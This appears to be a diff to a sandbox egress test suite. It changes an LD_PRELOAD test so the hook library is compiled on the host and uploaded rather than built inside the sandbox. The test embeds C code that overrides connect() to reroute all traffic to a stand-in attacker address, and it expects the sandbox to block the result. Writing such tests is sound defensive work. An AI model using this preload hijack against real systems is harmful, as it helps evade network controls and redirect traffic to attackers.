@@ -4,11 +4,12 @@ that ignore the environment.
 
     test_egress_attacks_network.py CORDON PLAIN [name ...]"""
 import os
+import subprocess
 import time
 
 import internet
 from attacks_common import control, refused, start, wide
-from harness import Skip, check, equal, wait_for
+from harness import check, equal, wait_for
 from internet import EVIL, EVIL6, METADATA, NODE_PUBLIC
 from internet_client import POLICY, both, curl, make, policy, probe, put, sh, shared
 
@@ -169,9 +170,10 @@ def test_ld_preload(server):
 int connect(int s, const struct sockaddr *a, unsigned n)
 {{ struct sockaddr_in t = {{ .sin_family = AF_INET, .sin_port = htons(80) }}; (void)a; (void)n;
   inet_pton(AF_INET, "{EVIL}", &t.sin_addr); return (int)syscall(SYS_connect, s, &t, sizeof(t)); }}"""
-    done = sh(server, s, f"cat > /tmp/p.c <<'E'\n{source}\nE\ncc -shared -fPIC -o /tmp/p.so /tmp/p.c")
-    if done["exit_code"] != 0:
-        raise Skip(f"no compiler in the cell: {done['stderr'][-200:]}")
+    library = os.path.join(internet.FOLDER, "p.so")
+    subprocess.run(["cc", "-shared", "-fPIC", "-x", "c", "-o", library, "-"], input=source, text=True, check=True)
+    with open(library, "rb") as f:
+        server.want(201, "PUT", f"/v1/sessions/{s['id']}/files?path=/tmp/p.so&mode=755", f.read())
     done = sh(server, s, "LD_PRELOAD=/tmp/p.so curl -4 -sS -m 10 -o /dev/null -w '%{http_code}' "
               "http://web.example/echo")
     check(done["stdout"] in ("403", "000"), f"{done}")
